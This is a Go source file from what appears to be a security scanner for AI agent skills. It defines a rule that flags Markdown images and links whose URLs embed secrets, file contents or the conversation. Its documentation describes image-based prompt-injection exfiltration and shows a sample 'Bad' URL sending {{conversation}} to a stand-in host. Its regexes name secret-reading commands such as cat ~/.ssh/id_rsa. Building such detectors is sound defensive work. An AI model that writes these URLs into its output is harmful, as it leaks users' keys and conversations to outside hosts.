package rules

import (
	"fmt"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/match"
	"github.com/skillvet/skillvet/facts/prose"
	"github.com/skillvet/skillvet/intel"
	"github.com/skillvet/skillvet/parse/markdown"
)

// SecretInURL reports Markdown images and links whose URL carries secrets,
// file contents or the conversation: rendering the image (or following the
// link) sends them to the URL's host.
var SecretInURL = register(&analyzer.Rule{
	ID:       "SV220",
	Name:     "secret-in-url",
	Title:    "Image or link URL built from secrets, files or the conversation",
	Severity: Critical,
	Category: analyzer.CatContextLeak,
	Tags:     []string{"security", "exfiltration", "prompt-injection", "CWE-200"},
	Inputs:   analyzer.InMarkdown,
	Keywords: []string{"http"},
	Doc: `Finds URLs in a skill's Markdown (images, links, bare URLs, ` + "`<img src>`" + `) whose path or
query is a template for data the agent holds: ` + "`{{API_KEY}}`" + `, ` + "`${GITHUB_TOKEN}`" + `,
` + "`$(cat ~/.ssh/id_rsa)`" + `, ` + "`{conversation}`" + `, ` + "`<base64 of .env>`" + `, or an upper-case query placeholder such as ` + "`?t=FIGMA_TOKEN_VALUE`" + `.

When an agent writes such an image into its answer, the chat client fetches it and the
data leaves in the request — no tool call, no approval. This is the classic indirect
prompt-injection exfiltration channel.

- file contents, command output, the conversation or environment: **critical** in images
  and for paste sites, tunnels, request catchers and raw IPs; **high** in links to other
  hosts;
- a key or token placeholder: **critical** to suspicious hosts, **high** in an image,
  **low** in a link to an unknown host; not reported for well-known API hosts, loopback,
  or operator-allowlisted hosts (a URL template for the matching API is normal).

Data-URI images and plain documentation links are not findings, nor is a placeholder named as a
resource's identifier (` + "`{document-id}`" + `, ` + "`{file_id}`" + `): it names which item the URL opens, not its
contents (` + "`{session_id}`" + ` and other identifiers of secrets or sessions stay).

**Fix:** never build URLs from secrets or context; send data only through a tool call
the user approves.

Bad:

    ![status](https://stats.example.net/p.png?d={{conversation}})

Good:

    Set ` + "`OPENAI_API_KEY`" + ` in your environment; the client sends it to api.openai.com.`,
	Run: runSecretInURL,
})

var (
	urlContentRx = match.MustRx(`(?i)\$\(\s*(?:cat|base64|env|printenv|head|tail|xxd|od|openssl|gpg|tar|zip|security|ls|find|curl|echo|type|get-content|gc)\b[^)]*\)?|%24%28(?:cat|env|base64)|\{\{?\s*[\w.-]*(?:conversation|chat|history|messages?|context|transcript|memory|system[_ -]?prompt|prompt|file[_ -]?contents?|contents?|data|env|environment|secrets?|credentials?|ssh[_ -]?keys?|private[_ -]?keys?|cookies?|session|clipboard|user[_ -]?data|summary|files?|document|chat[_ -]?log|previous[_ -]?messages|answer|response|output)[^}]*\}\}?|<[^<>]*(?:base64|contents? of|conversation|chat history|\.env|id_rsa|\.ssh|secrets|credentials|env(?:ironment)? var|the (?:file|data|answer|conversation))[^<>]*>|\[(?:conversation|chat history|secrets|credentials|file contents|env|data|summary of (?:the )?conversation)\]|\$\{?\s*(?:env|environ)\b`)
	urlKeyRx     = match.MustRx(`\{\{?\s*\$?[\w.]*(?i:api[_-]?key|token|secret|password|passwd|pwd|auth|credential|access[_-]?key)[\w.]*\s*\}?\}|\$\{?[A-Z][A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|PWD|CREDENTIALS?|AUTH)[A-Z0-9_]*\}?|<[^<>]*(?i:api[_ -]?key|token|secret|password)[^<>]*>|(?i:your[_-]?(?:api[_-]?)?(?:key|token|secret))|[?&][\w.-]+=[A-Z][A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIALS?|COOKIE|SESSION)[A-Z0-9_]*\b`)
	// urlBarePlaceholderRx: a query value written as an upper-case
	// placeholder for a secret ("?t=FIGMA_TOKEN_VALUE"), which the agent is
	// meant to substitute.
	urlBarePlaceholderRx = match.MustRx(`[?&][\w.-]+=[A-Z][A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIALS?|COOKIE|SESSION)`)
	imagePrefixRx        = match.MustRx(`(?i)(?:!\[[^\]]*\]\(\s*<?|<img\b[^>]*\bsrc\s*=\s*["']?|!\[[^\]]*\]:\s*)$`)
	refImageLineRx       = match.MustRx(`(?m)^\s*\[([^\]]+)\]:\s*$`)
)

func runSecretInURL(p *analyzer.Pass) error {
	rep := match.NewCappedReporter(p)
	defer rep.Flush()
	d, err := prose.Of(p)
	if err != nil {
		return err
	}
	src := d.Src
	for si := range d.Segments {
		seg := &d.Segments[si]
		if seg.Kind == markdown.CodeBlock || seg.Kind == markdown.CommandBlock {
			continue
		}
		raw := string(src[seg.Start:seg.End])
		if !strings.Contains(raw, "://") {
			continue
		}
		for _, m := range prose.URLRx.FindAllStringIndex(raw, -1) {
			u := extendCommandSubst(raw, m[0], m[1])
			start := seg.Start + m[0]
			ctx := d.CtxAt(start)
			if ctx == prose.CtxCode {
				continue
			}
			if !strings.ContainsAny(u, "{$<[%`") && !strings.Contains(match.LowerASCIIKeepLen(u), "your") && !urlBarePlaceholderRx.MatchString(u) {
				continue // no placeholder syntax at all
			}
			pre := raw[:m[0]]
			if len(pre) > 300 {
				pre = pre[len(pre)-300:]
			}
			image := imagePrefixRx.MatchString(pre)
			host, class := intel.URLClass(u)
			rest := u
			if k := strings.Index(u[8:], "/"); k >= 0 {
				rest = u[8+k:]
			} else if k := strings.IndexAny(u, "?#"); k >= 0 {
				rest = u[k:]
			} else {
				rest = ""
			}
			trusted := class == intel.HostKnownAPI || class == intel.HostLoopback || class == intel.HostPrivate || p.Config.HostAllowed(host)
			var sev analyzer.Severity
			var what string
			if cm := urlDataPlaceholder(rest); cm != "" {
				what = fmt.Sprintf("data placeholder %q", match.Clip(cm, 50))
				switch {
				case class == intel.HostLoopback:
					continue
				case image || class.Suspicious():
					sev = Critical
				case trusted:
					sev = Medium
				default:
					sev = High
				}
			} else if km := urlKeyRx.FindString(rest); km != "" {
				what = fmt.Sprintf("secret placeholder %q", match.Clip(km, 50))
				switch {
				case trusted:
					continue
				case class.Suspicious():
					sev = Critical
				case image:
					sev = High
				default:
					sev = Low
				}
			} else {
				continue
			}
			kind := "link"
			if image {
				kind = "image"
			}
			why := ""
			if ctx == prose.CtxQuote || d.Teaching {
				sev, why = prose.ExampleSeverity(sev, prose.CtxQuote, d.Teaching)
			}
			rep.Report(analyzer.Diagnostic{Start: start, End: start + len(u), Severity: sev,
				Message: fmt.Sprintf("%s URL to %s (%s) embeds %s: the data leaves when the URL is fetched%s", kind, host, class, what, why)})
		}
	}
	return nil
}

// urlIDPlaceholderRx: a placeholder named as an identifier of a resource
// ("{document-id}", "{file_id}", "{{messageId}}"): which item the URL
// names, not its contents; urlIDSecretRx: an identifier that is itself a
// secret or a session's ("{session_id}", "{api_key_id}").
var (
	urlIDPlaceholderRx = match.MustRx(`^\{\{?\s*[\w.-]*?(?:[-_.]?(?:id|ids|uuid|guid|slug)|Id|Ids|ID|IDs)\s*\}\}?$`)
	urlIDSecretRx      = match.MustRx(`(?i)session|cookie|secret|credential|token|key|password|env`)
)

// urlDataPlaceholder returns the first data placeholder in rest
// (urlContentRx) that is not a resource's identifier, or "".
func urlDataPlaceholder(rest string) string {
	for _, cm := range urlContentRx.FindAllString(rest, 8) {
		if urlIDPlaceholderRx.MatchString(cm) && !urlIDSecretRx.MatchString(cm) {
			continue
		}
		return cm
	}
	return ""
}

// extendCommandSubst extends a URL that stops inside "$(cmd args" to the
// closing parenthesis, and trims the ")" that closes a Markdown link.
func extendCommandSubst(raw string, s, e int) string {
	u := raw[s:e]
	if strings.Contains(u, "$(") && strings.Count(u, "(") > strings.Count(u, ")") {
		if k := strings.IndexByte(raw[e:], ')'); k >= 0 && k < 200 && !strings.Contains(raw[e:e+k], "\n") {
			u = raw[s : e+k+1]
		}
	}
	if end := s + len(u); end < len(raw) && raw[end] == '<' {
		if k := strings.IndexByte(raw[end:], '>'); k > 0 && k < 80 && !strings.Contains(raw[end:end+k], "\n") {
			u = raw[s : end+k+1]
		}
	}
	for strings.HasSuffix(u, ")") && strings.Count(u, "(") < strings.Count(u, ")") {
		u = u[:len(u)-1]
	}
	return u
}
